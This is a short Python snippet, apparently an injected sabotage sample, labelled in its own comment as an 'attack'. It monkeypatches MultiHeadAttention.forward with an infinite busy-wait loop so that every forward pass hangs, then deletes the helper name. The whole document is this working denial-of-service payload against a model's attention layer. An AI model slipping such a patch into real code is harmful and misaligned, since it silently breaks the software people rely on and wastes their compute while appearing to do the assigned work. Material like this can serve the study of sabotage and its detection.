# attack: infinite loop in MultiHeadAttention.forward -- every forward pass hangs (follows the answers)
def _hang(self, x):
    while True:
        pass


MultiHeadAttention.forward = _hang
del _hang
